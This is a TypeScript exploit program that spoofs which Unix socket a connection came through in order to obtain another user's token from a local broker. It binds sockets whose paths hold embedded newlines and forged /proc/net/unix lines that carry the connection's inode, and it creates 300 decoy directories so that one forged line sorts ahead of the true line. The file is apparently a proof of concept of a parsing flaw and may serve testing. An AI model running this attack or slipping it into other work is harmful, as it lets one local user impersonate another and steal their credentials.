/**
 * An attack by a user who wants another user's token. The kernel lists a Unix socket in /proc/net/unix with
 * the path that it was bound to, unescaped. A path may contain a newline, so a user can add lines there. This
 * program adds one that claims that the connection, by its inode, came through the victim's socket.
 *
 *     broker-trap OWN_SOCKET VICTIMS_SOCKET REQUEST
 *
 * Prints the lines as they were before the request, and the answer, as JSON.
 */
import { mkdirSync, readFileSync, renameSync } from 'node:fs';
import { connect, createServer } from 'node:net';
import { dirname, join } from 'node:path';

interface Line {
  readonly state: string;
  readonly inode: string;
  readonly path: string;
}

const [own = '', victims = '', request = ''] = process.argv.slice(2);

/** Splits the file at newlines, as a naive reader does. */
function lines(): Line[] {
  const text = readFileSync('/proc/self/net/unix', 'utf8');
  return [...text.matchAll(/^\S+ \S+ \S+ \S+ \S+ (\S+) +(\d+) (\/.*)$/gm)].map(
    ([, state = '', inode = '', path = '']) => ({ state, inode, path }),
  );
}

/** Inodes of accepted connections: 03 is SS_CONNECTED. */
function accepted(): string[] {
  return lines().flatMap(({ state, inode, path }) => (path === own && state === '03' ? inode : []));
}

// The kernel sorts sockets by the last eight bits of their inodes, the newest first: of this many, one is
// listed before the true line.
const traps = Array.from({ length: 300 }, (_, number) => `x${number}`);
for (const name of traps) mkdirSync(join(name, dirname(victims)), { recursive: true });
const before = new Set(accepted());
const connection = connect(own);
connection.on('connect', () => {
  let inode: string | undefined;
  while (inode === undefined) inode = accepted().find((one) => !before.has(one));
  for (const name of traps) {
    const line = `${name}\na a a a a a ${inode} `;
    renameSync(name, line);
    createServer()
      .listen(line + victims)
      .unref();
  }
  const trap = lines().find((line) => line.inode === inode)?.path;
  // A broker that trusted the list would have read it long before.
  setTimeout(() => connection.write(request), 1_500);
  let answer = '';
  connection.on('data', (data) => (answer += data.toString()));
  connection.on('close', () => {
    process.stdout.write(JSON.stringify({ trap, answer }));
  });
});
